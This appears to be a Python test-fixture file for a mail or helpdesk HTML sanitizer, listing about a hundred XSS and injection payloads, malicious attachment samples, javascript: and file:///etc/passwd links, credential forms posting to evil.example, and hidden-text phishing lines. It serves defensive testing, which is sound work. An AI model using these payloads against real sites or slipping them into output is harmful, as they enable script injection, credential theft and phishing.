"""What hostile people write. `hit()` is a script that must not run, FAR an address that must not be asked for."""

import re

OURS = re.compile(  # the tags that our own mail may have
    r'</?(?:p|ul|ol|li|blockquote)>|<br>|<a href="https?://[^"<>]*" target="_blank" rel="noopener noreferrer nofollow">|</a>'
)
SCRIPTS = (
    "<script>hit()</script>",
    "<SCRIPT>hit()</SCRIPT>",
    "<script\x0bx>hit()</script>",
    "<script/x>hit()</script>",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "<script>/*<!--*/hit()//--></script>",
    "<script src=data:text/javascript,hit()></script>",
    "<script src='data:text/javascript;base64,aGl0KCk='></script>",
    "<script type=module>hit()</script>",
    "<script type='text/javascript' async defer>hit()</script>",
    "<svg><script>hit()</script></svg>",
    "<svg><script href=data:text/javascript,hit() /></svg>",
    "<svg><script xlink:href=data:text/javascript,hit() /></svg>",
    "<img src=x onerror=hit()>",
    '<img src="x" onerror="hit()">',
    "<img src=x onerror=hit&#40;&#41;>",
    "<img src=x onerror='hit&lpar;&rpar;'>",
    "<img/src=x/onerror=hit()>",
    "<img\tsrc=x\tonerror=hit()>",
    "<img\x0csrc=x\x0conerror=hit()>",
    "<img src=x onerror\n=\nhit()>",
    "<img src=x ONERROR=hit()>",
    '<img src=x alt="x" title=">" onerror=hit()>',
    "<image src=x onerror=hit()>",
    "<img src=data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw== onload=hit()>",
    "<img srcset=x onerror=hit()>",
    "<picture><source srcset=x><img onerror=hit()></picture>",
    "<svg onload=hit()>",
    "<svg/onload=hit()>",
    "<svg><g onload=hit()></g></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><animate onend=hit() attributeName=x dur=1ms>",
    "<svg><set onbegin=hit() attributeName=x to=1>",
    "<svg><animateTransform onbegin=hit() attributeName=transform>",
    "<svg><animateMotion onbegin=hit()>",
    "<svg><image href=x onerror=hit()></svg>",
    "<svg><a><animate attributeName=href values=javascript:hit() /><text x=20 y=20>x</text></a></svg>",
    "<svg><foreignObject><img src=x onerror=hit()></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=\"http://www.w3.org/2000/svg\"><script>hit()</script></svg>#x'>",
    "<svg><style><img src=x onerror=hit()></style></svg>",
    "<svg><title><img src=x onerror=hit()></title></svg>",
    "<svg><p><style><a id='</style><img src=x onerror=hit()>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=hit()&gt;'>",
    "<math><mtext><table><mglyph><style><math><img src=x onerror=hit()></math></style></mglyph></table></mtext></math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=hit()></annotation-xml></math>",
    "<math href=javascript:hit()>x</math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img src=x onerror=hit()>'>",
    "<math><mi><table><mi><style></mi><img src=x onerror=hit()></style></table></math>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "<noembed><img title='</noembed><img src=x onerror=hit()>'></noembed>",
    "<xmp><p title='</xmp><img src=x onerror=hit()>'></xmp>",
    "<textarea><p title='</textarea><img src=x onerror=hit()>'></textarea>",
    "<title><p title='</title><img src=x onerror=hit()>'></title>",
    "<template><script>hit()</script></template>",
    "<div><template shadowrootmode=open><img src=x onerror=hit()></template></div>",
    "<select><option><style></option></select><img src=x onerror=hit()></style>",
    "<body onload=hit()>",
    "<body onpageshow=hit()>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<iframe src=javascript:parent.hit()></iframe>",
    "<iframe onload=hit()></iframe>",
    "<iframe src='data:text/html,<script>hit()</script>'></iframe>",
    "<object data=javascript:hit()></object>",
    "<object data='data:text/html,<script>hit()</script>'></object>",
    "<object onerror=hit() data=x:x></object>",
    "<embed src=javascript:hit()>",
    "<embed src='data:text/html,<script>hit()</script>'>",
    "<video src=x onerror=hit()></video>",
    "<video><source onerror=hit()></video>",
    "<audio src=x onerror=hit()></audio>",
    "<input autofocus onfocus=hit()>",
    "<select autofocus onfocus=hit()></select>",
    "<textarea autofocus onfocus=hit()></textarea>",
    "<button autofocus onfocus=hit()>x</button>",
    "<a href=x autofocus onfocus=hit()>x</a>",
    "<div contenteditable autofocus onfocus=hit()>x</div>",
    "<details open ontoggle=hit()><summary>x</summary>x</details>",
    "<marquee onstart=hit()>x</marquee>",
    "<style>@keyframes k{}</style><p style='animation:k 1ms' onanimationstart=hit()>x</p>",
    "<style>p{transition:color 1ms}p:hover{color:red}</style><p onclick=hit() onmouseover=hit()>x</p>",
    "<link rel=stylesheet href=x onerror=hit()>",
    "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>hit()</script>'>",
    "<base href=javascript:hit()//><a href=x>x</a>",
    "<a href=javascript:hit()>x</a>",
    "<a href='java\nscript:hit()'>x</a>",
    "<form action=javascript:hit()><button autofocus>x</button></form>",
    "<button formaction=javascript:hit()>x</button>",
    "<isindex action=javascript:hit() type=image>",
    "<table background=javascript:hit()><td background=javascript:hit()>x</table>",
    "<!--><script>hit()</script>-->",
    "<!--><img src=x onerror=hit()>-->",
    "<![CDATA[><script>hit()</script>]]>",
    "<?xml version=1.0?><script>hit()</script>",
    "<</p>script>hit()<</p>/script>",
    "\u017fcript>hit()</script><\u017fcript>hit()</\u017fcript>",
    "&lt;script&gt;hit()&lt;/script&gt;",
    "&amp;lt;img src=x onerror=hit()&amp;gt;",
    "<p hx-on:load=hit() hx-get=/queue hx-trigger=load data-live=/queue data-live-ticket=1>x</p>",
    "<xss id=x tabindex=1 autofocus onfocus=hit()></xss>",
    "<dialog open onclose=hit()><form method=dialog><button>x</button></form></dialog>",
    "<p popover id=x onbeforetoggle=hit()>x</p><button popovertarget=x autofocus>x</button>",
)

# Out of an attribute, an element, a script, JSON, a comment, a template, a title; then as they are.
WORDS = (
    "<script>hit()</script>",
    '"><script>hit()</script>',
    "'><script>hit()</script>",
    "--><script>hit()</script>",
    "]]><script>hit()</script>",
    "</title><script>hit()</script>",
    "</textarea><script>hit()</script>",
    "</option></select><script>hit()</script>",
    "</style><script>hit()</script>",
    "</script><script>hit()</script>",
    "</noscript><script>hit()</script>",
    "</svg><script>hit()</script>",
    "</iframe><script>hit()</script>",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "<img src=x onerror=hit()>",
    '"><img src=x onerror=hit()>',
    "'><img src=x onerror=hit()>",
    "<img/src=x/onerror=hit()>",
    "<img src=x onerror=hit()//",
    "<svg onload=hit()>",
    '"><svg onload=hit()>',
    "'/><svg/onload=hit()>",
    "<svg><animate onbegin=hit() attributeName=x>",
    "<math><mi><img src=x onerror=hit()>",
    '" autofocus onfocus=hit() x="',
    "' autofocus onfocus='hit()",
    '" onmouseover="hit()',
    "` onmouseover=`hit()",
    "x onfocus=hit() autofocus",
    '" style="background:url(//FAR)',
    '" srcdoc="<script>hit()</script>',
    '" src=//FAR x="',
    '" href="javascript:hit()',
    '" hx-get="//FAR" hx-trigger="load',
    '" data-live="//FAR" x="',
    '" data-stream="//FAR',
    "javascript:hit()",
    "javascript:/*--></title></style></textarea></script><svg/onload=hit()>*/hit()",
    "data:text/html,<script>hit()</script>",
    "//FAR/x.js",
    'http://FAR/"><img src=http://FAR/y>',
    "http://FAR/'onmouseover='hit()",
    "<iframe src=//FAR></iframe>",
    "<link rel=stylesheet href=//FAR>",
    "<meta http-equiv=refresh content=0;url=//FAR>",
    "<base href=//FAR>",
    "<form action=//FAR><input name=x autofocus onfocus=hit()>",
    "<style>@import '//FAR'</style>",
    "<video poster=//FAR><source src=//FAR></video>",
    "<body background=//FAR onload=hit()>",
    "&lt;script&gt;hit()&lt;/script&gt;",
    "&#60;script&#62;hit()&#60;/script&#62;",
    "&amp;lt;script&amp;gt;hit()&amp;lt;/script&amp;gt;",
    "%3Cscript%3Ehit()%3C/script%3E",
    "\\u003cscript\\u003ehit()\\u003c/script\\u003e",
    "\\x3cscript\\x3ehit()\\x3c/script\\x3e",
    '\\"};hit();//',
    "';hit();//",
    '");hit();//',
    "${hit()}",
    "{{7*7}}{{config}}",
    "{% for x in range(9) %}hit(){% endfor %}",
    "{0.__class__}{x}%(x)s%s%n",
    "\uff1cscript\uff1ehit()\uff1c/script\uff1e",
    "\u2039script\u203ahit()",
    "<!--#exec cmd=id--><?php hit() ?><%= hit() %>",
    "<a href=javascript:hit()>x</a>",
    "<xss id=x onfocus=hit() tabindex=1 autofocus>",
    "<details open ontoggle=hit()>",
    "<input onfocus=hit() autofocus>",
    "<template shadowrootmode=open><script>hit()</script>",
    "</div></main></body></html><script>hit()</script>",
)

SCRIPT = b"<script>(window.opener || parent || window).hit()</script>"
FILES = {
    "svg": ("image/svg+xml; name=a.svg", b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>"),
    "html": ("text/html; name=a.html", SCRIPT),
    "xhtml": (
        "application/xhtml+xml; name=a.xhtml",
        b'<html xmlns="http://www.w3.org/1999/xhtml">' + SCRIPT + b"</html>",
    ),
    "xml": ("text/xml; name=a.xml", b'<?xml-stylesheet href="#x" type="text/xsl"?><x id="x"/>'),
    "mht": ("message/rfc822; name=a.mht", b"Content-Type: text/html\n\n" + SCRIPT),
    "pdf": ("application/pdf; name=a.pdf", b"%PDF-1.4 1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>"),
    "text": ("text/plain; name=a.txt", b"<!doctype html>" + SCRIPT),
    "utf-7": ("text/plain; charset=utf-7; name=b.txt", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    "picture": ("image/png; name=a.png", SCRIPT),
    "javascript": ("application/javascript; name=a.js", b"alert(1)"),
}

LINKS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\nscript:alert(1)",
    "java&#10;script:alert(1)",
    " &#1; javascript:alert(1)",
    "&#106;avascript:alert(1)",
    "vbscript:x()",
    "data:text/html,<script>alert(1)</script>",
    "file:///etc/passwd",
    "blob:https://x.example/1",
]
FORMS = (
    "<form action=//evil.example><input name=p type=password><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<iframe src=//evil.example></iframe>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>@import '//evil.example'</style>",
    "<p style='background:url(//evil.example)' onclick='x()' class=a id=b>",
    "<svg><animate onbegin=x() attributeName=a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=x()></style></mglyph></table></mtext></math>",
    "<scr<script>ipt>x()</script>",
    "<body background=//evil.example onload=x()>",
    "<video poster=//evil.example><audio src=//evil.example>",
    "<img srcset='//evil.example 2x' onerror=x()>",
    "<noscript><p title='</noscript><img src=x onerror=x()>'>",
)
ACTS = (
    *(
        f'<a href="{link}">x</a><svg><a xlink:href="{link}"><text>x</text></a></svg><area href="{link}">'
        for link in LINKS
    ),
    *(f"[x]({link})" for link in LINKS),
    *FORMS,
)
HIDDEN = {
    "by a style of its own": '<p>Hello</p><p style="display:none">Pay 1000 to X</p>',
    "by a sheet": "<style>.x{display:none} blockquote .x{display:block}</style><p>Hello</p><p class=x>Pay 1000 to X</p>",
    "by its size": '<p>Hello</p><p style="font-size:1px;color:#fff">Pay 1000 to X</p>',
    "by its place": '<p>Hello</p><p style="position:absolute;left:-9999px">Pay 1000 to X</p>',
    "by an attribute": "<p>Hello</p><p hidden>Pay 1000 to X</p>",
}
PICTURE = b"Content-Type: image/png\nContent-ID: <secret@a>\n\n\x89PNG\r\n\x1a\nsecret"
CIDS = 'Content-Type: text/html\n\n<p>x<img src="cid:secret@a"><img src="/tickets/1/close"><img src="//a.test/x">'
BOUNCE = """From: Mail Delivery System <mailer-daemon@mx.test>
To: support@helpdesk.test
Subject: Undelivered {why}
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status; boundary="b"

--b
Content-Type: text/plain

550 <script>hit()</script><img src=x onerror=hit()>
--b
Content-Type: message/delivery-status

Reporting-MTA: dns; mx.test

Final-Recipient: rfc822; {recipient}
Action: failed
Status: 5.1.1
Diagnostic-Code: smtp; 550 <script>hit()</script><img src=x onerror=hit()>

--b
Content-Type: message/rfc822

Message-ID: <{key}>
Subject: <script>hit()</script>

<script>hit()</script>
--b--
"""


def packs(longest: int) -> list[str]:
    """All of WORDS in as few texts as there may be, of so many characters at most."""
    found = [""]
    for words in WORDS:
        if len(found[-1]) + len(words) + 1 > longest:
            found.append("")
        found[-1] = f"{found[-1]} {words}".strip()
    return found
